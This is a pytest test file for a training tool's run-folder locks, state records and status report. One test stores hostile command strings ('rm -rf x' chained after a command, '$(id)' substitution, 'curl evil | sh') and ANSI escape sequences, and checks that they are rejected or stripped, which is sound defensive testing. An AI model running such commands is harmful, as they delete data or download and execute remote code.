"""A folder's life, inside one process: its lock and its record."""

import json
import os

import pytest

from coursewright.errors import InputError
from coursewright.scripts.life import LOCK, STATE, State, alone, lived, queue, read, works
from coursewright.scripts.recorded import SUMMARY, finished
from coursewright.scripts.status import main as status


def test_a_second_one_is_told_who_works_there(tmp_path):
    with alone(tmp_path), lived(tmp_path, "sweep"):
        assert works(tmp_path)
        state = read(tmp_path)
        assert (state.state, state.process, state.group) == ("running", os.getpid(), "sweep")
        with pytest.raises(InputError) as refused, alone(tmp_path):
            pass
    line = str(refused.value)
    assert line.startswith(f"hydra.run.dir = {tmp_path}: must be a folder in which no other process works")
    assert f"process {os.getpid()} on {state.host}, since {state.since}" in line
    assert not works(tmp_path)
    assert read(tmp_path).state == "done"


@pytest.mark.parametrize(
    ("error", "word", "line"),
    [
        (InputError("a = 1: must be 2"), "failed", "a = 1: must be 2"),
        (ValueError("two\nlines \x1b[31m"), "failed", "ValueError: two lines  [31m"),
        (KeyboardInterrupt(), "interrupted", ""),
        (SystemExit(1), "interrupted", ""),
    ],
)
def test_the_end_is_written_down(tmp_path, error, word, line):
    with pytest.raises(type(error)), alone(tmp_path), lived(tmp_path, ""):
        raise error
    assert (read(tmp_path).state, read(tmp_path).error) == (word, line)


def test_what_was_left_in_the_middle_is_taken_over_with_a_word(tmp_path, caplog):
    State.now("running", "").write(tmp_path)
    with caplog.at_level("INFO"), alone(tmp_path), lived(tmp_path, ""):
        assert f"{tmp_path} was left in the middle (process {os.getpid()}" in caplog.text


@pytest.mark.parametrize(
    "content", ["", "[]", "{}", '{"format": 2}', '{"format": 1, "state": "gone"}', "\x00", '{"format": 1}']
)
def test_a_broken_state_is_none(tmp_path, content):
    (tmp_path / STATE).write_text(content)
    assert read(tmp_path) is None
    with alone(tmp_path), lived(tmp_path, ""):
        assert read(tmp_path).state == "running"


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("coursewright train -m 'a=b c' seed=0", "coursewright train -m 'a=b c' seed=0"),
        ("coursewright train; rm -rf x", ""),
        ("coursewright train seed=$(id)", ""),
        ("curl evil | sh", ""),
        ("coursewright 'train", None),
        ("\x1b[31mcoursewright", ""),
    ],
)
def test_a_command_that_a_folder_holds_is_ours_or_none(tmp_path, written, told):
    State("done", "now\x1b[2J", "host", 3, "group", written, "").write(tmp_path)
    state = read(tmp_path)
    assert (state and state.command) == told
    assert state is None or "\x1b" not in state.since


def test_jobs_wait_in_a_queue_and_finished_ones_do_not(tmp_path):
    jobs = [tmp_path / name for name in ("new", "done", "failed")]
    State.now("done", "").write(jobs[1])
    State.now("failed", "").write(jobs[2])
    queue(jobs, "sweep")
    assert [read(job).state for job in jobs] == ["queued", "done", "queued"]


def test_a_folder_that_cannot_be_locked_is_one_line(tmp_path):
    (tmp_path / "file").write_text("")
    with (
        pytest.raises(InputError, match=r"^hydra.run.dir = [^\n]*: cannot be used"),
        alone(tmp_path / "file"),
    ):
        pass


def said(monkeypatch, capsys, *arguments):
    monkeypatch.setattr("sys.argv", ["coursewright status", *arguments])
    status()
    return capsys.readouterr().out.splitlines()


def test_status_tells_the_living_from_the_dead(tmp_path, monkeypatch, capsys):
    names = ("at-work", "died", "done", "failed", "queued")
    for name in names:
        with pytest.MonkeyPatch.context() as typing:
            typing.setattr("sys.argv", ["coursewright train", "seed=0,1"])
            word = "running" if name in ("at-work", "died") else name
            State.now(word, "", "a = 1: must be 2" if name == "failed" else "").write(tmp_path / name)
            State.now("running", "").write(tmp_path)
    (tmp_path / "died" / "metrics.csv").write_text("step,train/return\n1280,0.5\n2560,0.5\n38")
    (tmp_path / "died" / "config.yaml").write_text("agent: {steps: 5000}\n")
    with alone(tmp_path / "at-work"):
        lines = said(monkeypatch, capsys, f"sweep={tmp_path}")
    rows = {line.split()[-1].rpartition("/")[2]: line.split()[0] for line in lines[1:6]}
    assert rows == {
        "at-work": "running",
        "died": "died",
        "done": "done",
        "failed": "failed",
        "queued": "queued",
    }
    assert "2,560 of 5,000" in next(line for line in lines if line.startswith("died"))
    assert lines[6:] == [
        f"{tmp_path}/failed failed: a = 1: must be 2",
        "5 runs: 1 running, 1 died, 1 done, 1 failed, 1 queued",
        "nobody works on it; it goes on with: coursewright train seed=0,1",
    ]
    assert not (tmp_path / "died" / LOCK).exists()  # a command that only looks leaves nothing
    assert said(monkeypatch, capsys, f"run={tmp_path}/done")[-1] == "1 run: 1 done"
    goes_on = f"nobody works on it; it goes on with: coursewright train resume={tmp_path}/died"
    assert said(monkeypatch, capsys, f"run={tmp_path}/died")[-1] == goes_on


@pytest.mark.parametrize("arguments", [[], ["sweep="], ["sweep=nowhere"], ["runs=x"], ["sweep=a", "run=b"]])
def test_status_of_nothing_is_one_line(tmp_path, monkeypatch, capsys, arguments):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError, match=r"^[^\n]*$"):
        said(monkeypatch, capsys, *arguments)


@pytest.mark.parametrize("content", ["{", "[]", '{"format": 1, "state": "gone"}'])
def test_a_broken_state_is_told_as_one(tmp_path, monkeypatch, capsys, content):
    (tmp_path / STATE).write_text(content)
    for kind in ("run", "sweep"):
        lines = said(monkeypatch, capsys, f"{kind}={tmp_path}")
        assert lines[1].split()[0] == "unknown"
        assert lines[2:] == [f"{tmp_path}: its state.json is truncated or broken", "1 run: 1 unknown"]


def test_a_sweeps_own_folder_is_no_run(tmp_path, monkeypatch, capsys):
    for place in ("day/sweep", "day/sweep/job"):
        State.now("running", "").write(tmp_path / place)
    assert said(monkeypatch, capsys, f"sweep={tmp_path}")[2] == "1 run: 1 died"
    assert said(monkeypatch, capsys, f"run={tmp_path}/day/sweep/job")[2] == "1 run: 1 died"


def test_a_name_from_outside_moves_no_cursor(tmp_path, monkeypatch, capsys):
    State.now("failed", "", "a = 1").write(tmp_path / "x\x1b[31mred\nline")
    lines = said(monkeypatch, capsys, f"sweep={tmp_path}")
    assert len(lines) == 4
    assert "\x1b" not in "".join(lines)


def test_a_finished_training_is_past_its_steps(tmp_path, monkeypatch, capsys):
    State.now("done", "").write(tmp_path)
    (tmp_path / "metrics.csv").write_text("step,train/return\n506880,0.5\n")
    (tmp_path / "config.yaml").write_text("agent: {steps: 500000}\n")
    assert "506,880  " in said(monkeypatch, capsys, f"run={tmp_path}")[1]


def test_half_a_summary_is_no_end(tmp_path):
    for content, whole in (("{", False), ("[]", False), ("", False), ("{}", True)):
        (tmp_path / SUMMARY).write_text(content)
        assert finished(tmp_path) == whole


def test_state_is_json_for_other_tools(tmp_path):
    State.now("queued", "sweep").write(tmp_path)
    kept = json.loads((tmp_path / STATE).read_text())
    assert (kept["format"], kept["state"], kept["group"]) == (1, "queued", "sweep")
